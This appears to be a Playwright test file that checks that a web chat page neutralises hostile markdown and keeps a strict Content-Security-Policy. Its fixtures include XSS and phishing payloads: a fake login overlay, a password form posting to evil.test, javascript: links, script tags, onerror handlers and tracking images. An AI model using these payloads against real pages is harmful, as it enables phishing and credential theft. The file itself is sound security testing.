"""The web chat against its own model: hostile markdown, from an answer the engine writes,
from an imported file and through the page's renderer, must not take over the page: no
overlay, no restyling, no form, no script or `javascript:` link, no request to another
host, unless the user lets one conversation load remote images. Behind the sanitizer, the
server's Content-Security-Policy (server/web_ui.py) must hold on its own.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import Browser, Page, Route, expect

from tests.conftest import Cluster
from tests.e2e.web_chat_page import (
    answers,
    ask,
    chromium,
    force_answer,
    import_file,
    not_pwned,
    open_chat,
    wait_answered,
    wait_saved,
)

# A 1x1 PNG: what the remote image host answers.
PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)
HOSTILE = {
    "overlay": '<div style="position:fixed;inset:0;z-index:99;background:red">Session expired: '
    "log in again</div>",
    "full-page link": '<a href="https://evil.test/phish" style="position:fixed;top:0;left:0;'
    'width:100vw;height:100vh;opacity:0;z-index:99">.</a>',
    "remote image": "![tracker](https://images.test/pixel.png)",
    "remote image tags": '<img src="https://images.test/tag.png"> <img srcset="https://images.'
    'test/set.png 1x"> <table background="https://images.test/bg.png"><tr><td>t</td></tr>'
    '</table> <video poster="https://images.test/poster.png"></video> <svg><image '
    'href="https://images.test/svg.png"/></svg>',
    "form": '<form action="https://evil.test/steal"><input name="password" placeholder="Password">'
    "<button>Log in</button><textarea></textarea><select><option>a</option></select></form>",
    "style sheet": "<style>body { display: none }</style>"
    '<link rel="stylesheet" href="https://evil.test/x.css">',
    "borrowed classes": '<div class="scrim">page classes</div><div class="engine-panel notice">'
    "x</div>",
    "javascript links": "[click](javascript:window.pwned='md') "
    "<a href=\"JaVaScRiPt:window.pwned='html'\">x</a> "
    "<a href=\"&#106;avascript:window.pwned='entity'\">y</a>",
    "scripts": "<script>window.pwned='script'</script><img src=x onerror=\"window.pwned='img'\">"
    "<iframe src=\"javascript:parent.pwned='frame'\"></iframe>",
}
HOSTILE_TEXT = "\n\n".join(HOSTILE.values())


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


def watch_other_hosts(page: Page) -> list[str]:
    """The URLs of every request the page makes to another host; images.test answers."""
    requested: list[str] = []

    def answer(route: Route) -> None:
        requested.append(route.request.url)
        if route.request.url.startswith("https://images.test/"):
            route.fulfill(status=200, content_type="image/png", body=PIXEL)
        else:
            route.abort()

    page.route("https://**/*", answer)
    page.route("http://*.test/**", answer)
    return requested


def assert_inert(page: Page, content: str) -> None:
    """Nothing in the `content` elements can restyle, cover, submit, run or call out."""
    found = page.evaluate(
        """(selector) => {
            const roots = [...document.querySelectorAll(selector)];
            const all = roots.flatMap((root) => [...root.querySelectorAll("*")]);
            const own = (node) => node.matches(".copy-code, .remote-image");
            return {
                styled: all.filter((node) => node.hasAttribute("style")).length,
                controls: all.filter((node) => node.matches("form, input, button, textarea, "
                    + "select, option, iframe, object, embed, video, audio, image") && !own(node))
                    .map((node) => node.tagName),
                sheets: all.filter((node) => node.matches("style, link")).length,
                scripts: all.filter((node) => node.matches("script")).length,
                handlers: all.filter((node) => [...node.attributes]
                    .some((a) => a.name.startsWith("on"))).length,
                jsLinks: all.filter((node) => /^\\s*javascript:/i.test(node.getAttribute("href")
                    || "")).length,
                classes: [...new Set(all.flatMap((node) => [...node.classList]))],
                remoteSources: all.filter((node) => ["src", "srcset", "background", "poster",
                    "href"].some((name) => /images\\.test/.test(node.getAttribute(name) || "")))
                    .length,
                ids: all.filter((node) => node.id).length,
            };
        }""",
        content,
    )
    assert found["styled"] == 0, found
    assert found["controls"] == [], found
    assert found["sheets"] == 0 and found["scripts"] == 0 and found["handlers"] == 0, found
    assert found["jsLinks"] == 0 and found["remoteSources"] == 0 and found["ids"] == 0, found
    for name in ("scrim", "engine-panel", "notice", "settings"):
        assert name not in found["classes"], found
    # The page is as it was: visible, and Send is what a click on it reaches.
    assert page.evaluate("getComputedStyle(document.body).display") == "flex"
    assert page.evaluate(
        "(() => { const send = document.querySelector('#send');"
        " const box = send.getBoundingClientRect();"
        " return document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2)"
        " === send; })()"
    )
    expect(page.locator("#scrim")).to_be_hidden()


def test_the_page_and_its_files_carry_a_strict_policy(
    cluster: Cluster, browser: Browser, tmp_path: Path
) -> None:
    for path in ("/", "/static/js/app.js", "/static/style.css", "/static/manifest.json"):
        response = httpx.get(cluster.urls[0] + path)
        assert response.status_code == 200, path
        policy = response.headers["content-security-policy"]
        directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
        assert directives["default-src"] == "'self'", policy
        assert directives["script-src"] == "'self'", policy  # no inline script, no eval
        assert directives["style-src"] == "'self'", policy
        assert directives["img-src"] == "'self' data: https:", policy
        assert directives["object-src"] == "'none'" and directives["form-action"] == "'none'"
        assert response.headers["referrer-policy"] == "no-referrer"
        assert response.headers["x-content-type-options"] == "nosniff"
    # The page itself needs nothing inline, not even to render math, code and tables.
    page = open_chat(browser, cluster.urls[0])
    assert page.evaluate(
        "[...document.scripts].every((script) => script.src)"
        " && !document.querySelector('style, [style]')"
    )
    import_file(
        page,
        tmp_path / "plain.json",
        [
            {"role": "user", "content": "Show me."},
            {
                "role": "assistant",
                "content": "$$\\int_0^1 x^2\\,dx$$ and $a^2$\n\n```python\nprint(1)\n```\n\n"
                "| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted",
            },
        ],
    )
    expect(answers(page).locator("math")).to_have_count(2)
    expect(answers(page).locator(".hljs")).to_have_count(1)
    page.wait_for_timeout(300)
    assert page.evaluate("window.cspViolations") == []
    # Were a script to get in after all, the browser would not run it.
    violations = page.evaluate(
        """() => new Promise((resolve) => {
            document.addEventListener("securitypolicyviolation",
                (event) => resolve(event.violatedDirective));
            const script = document.createElement("script");
            script.textContent = "window.pwned = 'inline'";
            document.body.append(script);
        })"""
    )
    assert violations.startswith("script-src"), violations
    not_pwned(page)
    page.context.close()


def test_hostile_markdown_from_an_import_and_the_renderer_is_inert(
    cluster: Cluster, browser: Browser, tmp_path: Path
) -> None:
    page = open_chat(browser, cluster.urls[0])
    requested = watch_other_hosts(page)
    import_file(
        page,
        tmp_path / "hostile.json",
        {
            "title": "Hostile",
            "allowRemoteImages": True,  # an import cannot allow them itself
            "messages": [
                {"role": "user", "content": HOSTILE["overlay"]},
                {"role": "assistant", "content": HOSTILE_TEXT},
            ],
        },
    )
    page.click("#close-sidebar")
    answer = answers(page).first
    # The markdown image and the <img> tag (the other tags' sources are gone).
    expect(answer.locator(".remote-image")).to_have_count(2)
    expect(answer.locator(".remote-image").first).to_have_text(
        "Image “tracker” from images.test: click to load"
    )
    expect(page.locator(".message.user .content")).to_have_text(HOSTILE["overlay"])  # as typed
    page.wait_for_timeout(300)  # an image or an error handler would have fired by now
    assert_inert(page, ".message .content")
    assert requested == []
    not_pwned(page)

    # Each payload on its own through the renderer the page streams answers with.
    for name, text in HOSTILE.items():
        page.evaluate(
            """async (text) => {
                const { renderMarkdown } = await import("/static/js/markdown.js");
                const box = document.createElement("div");
                box.className = "rendered";
                box.append(renderMarkdown(text));
                document.querySelector("#conversation").append(box);
            }""",
            text,
        )
        assert_inert(page, ".rendered")
        assert requested == [], name
    not_pwned(page)

    # A click allows this conversation's remote images: only https ones load, and only here.
    answer.locator(".remote-image").first.click()
    image = answers(page).first.locator("img[src='https://images.test/pixel.png']")
    expect(image).to_have_count(1)
    expect(image).to_have_js_property("naturalWidth", 1)
    assert sorted(requested) == ["https://images.test/pixel.png", "https://images.test/tag.png"]
    wait_saved(page)
    page.reload()
    expect(answers(page).first.locator("img[src='https://images.test/pixel.png']")).to_have_count(1)
    page.keyboard.press("Control+Shift+O")
    page.evaluate(
        """async () => {
            const { renderMarkdown } = await import("/static/js/markdown.js");
            const box = document.createElement("div");
            box.className = "rendered";
            box.append(renderMarkdown("![b](https://images.test/other.png)"));
            document.querySelector("#conversation").append(box);
        }"""
    )
    expect(page.locator(".rendered .remote-image")).to_have_count(1)
    assert "https://images.test/other.png" not in requested
    page.context.close()


def test_hostile_answer_from_the_engine_is_inert(cluster: Cluster, browser: Browser) -> None:
    """The model itself writes a full-page `javascript:` link and a remote image (a
    structured-output choice holds it to that text; the import test above covers the rest),
    streamed into the page token by token."""
    page = open_chat(browser, cluster.urls[0])
    requested = watch_other_hosts(page)
    force_answer(
        page,
        '<a href="javascript:pwned=1" style="position:fixed;inset:0">x</a>'
        "![i](https://images.test/a.png)",
    )
    ask(page, "Show me.")
    wait_answered(page, timeout_s=240)  # ~30 tokens, each through the grammar
    answer = answers(page).first
    expect(answer.locator(".remote-image")).to_have_count(1)
    expect(answer.locator("a")).to_have_text("x")
    page.wait_for_timeout(300)
    assert_inert(page, ".message .content")
    assert requested == []
    not_pwned(page)
    page.context.close()
